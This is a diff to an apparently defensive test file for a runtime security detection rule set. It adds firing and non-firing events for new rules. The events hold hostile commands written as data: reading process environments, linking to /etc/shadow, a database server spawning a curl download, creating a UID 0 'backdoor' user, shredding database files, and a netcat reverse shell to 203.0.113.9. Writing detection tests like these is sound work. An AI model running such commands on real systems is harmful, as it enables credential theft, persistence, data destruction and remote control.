@@ -17,6 +17,7 @@ from sentry.rules.story import (
     CLONE_NEWUSER,
     O_APPEND,
     O_CREAT,
+    O_F_CREATED,
     O_RDONLY,
     O_TRUNC,
     O_WRONLY,
@@ -460,6 +461,52 @@ CASES: list[RuleCase] = [
         ),
         acting("curl", lambda s, p: s.connect_unix(p, "/var/run/docker.sock")),
     ),
+    # --- the gaps of issue 16
+    RuleCase(
+        "Process Environment Read",
+        opened("/proc/1/environ", O_RDONLY),
+        opened("/proc/self/environ", O_RDONLY),
+    ),
+    RuleCase(
+        "Link To Sensitive File Created",
+        acting("ln", lambda s, p: s.symlink(p, "../../etc/shadow", "/tmp/notes")),
+        acting("ln", lambda s, p: s.symlink(p, "/etc/hostname", "/tmp/notes")),
+    ),
+    RuleCase(
+        "File Created Below Dev",
+        opened("/dev/.cache", WRITE | O_F_CREATED, program="bash", args=()),
+        opened("/dev/null", WRITE, program="bash", args=()),
+    ),
+    RuleCase(
+        "Program Spawned By Database Server",
+        started("curl", "-o", "/tmp/x", "http://203.0.113.9/x", parent="postgres"),
+        started("postgres", "-D", "/var/lib/postgresql", parent="postgres"),
+    ),
+    RuleCase(
+        "Namespace Unshared On Host By Unexpected Program",
+        acting("python3", lambda s, p: s.unshare(p, CLONE_NEWUSER), uid=ALICE),
+        acting("python3", lambda s, p: s.unshare(p, CLONE_NEWUSER, res=-1), uid=ALICE),
+    ),
+    RuleCase(
+        "Network Tool Run On Host",
+        started("tcpdump", "-i", "eth0", filename="/usr/sbin/tcpdump"),
+        started("tcpdump", "-i", "eth0", container=IN_CONTAINER),
+    ),
+    RuleCase(
+        "User Management Tool Run On Host",
+        started("useradd", "-o", "-u", "0", "backdoor", filename="/usr/sbin/useradd"),
+        started("useradd", "eve", parent="sh", container=IN_CONTAINER),
+    ),
+    RuleCase(
+        "Bulk Data Destruction",
+        started("shred", "-u", "/var/lib/mysql/ibdata1"),
+        started("rm", "/var/lib/mysql/ibdata1"),
+    ),
+    RuleCase(
+        "Packet Socket Opened",
+        acting("python3", lambda s, p: s.socket(p, 3, family=17)),
+        acting("python3", lambda s, p: s.socket(p, 3, family=2)),
+    ),
 ]
 
 CASES_BY_RULE: dict[str, RuleCase] = {case.rule: case for case in CASES}
@@ -551,6 +598,16 @@ OVERLAPS: list[Overlap] = [
         "Netcat Command Execution",
         "Network Relay Tool Run In Container",
         started("nc", "-e", "/bin/sh", "203.0.113.9", "4444", parent="sh", container=IN_CONTAINER),
+    ),
+    Overlap(
+        "Shell Spawned By Database Server",
+        "Program Spawned By Database Server",
+        CASES_BY_RULE["Shell Spawned By Database Server"].fire,
+    ),
+    Overlap(
+        "Netcat Command Execution",
+        "Network Tool Run On Host",
+        started("nc", "-e", "/bin/sh", "203.0.113.9", "4444"),
     ),
     Overlap(
         "Coin Miner Started",
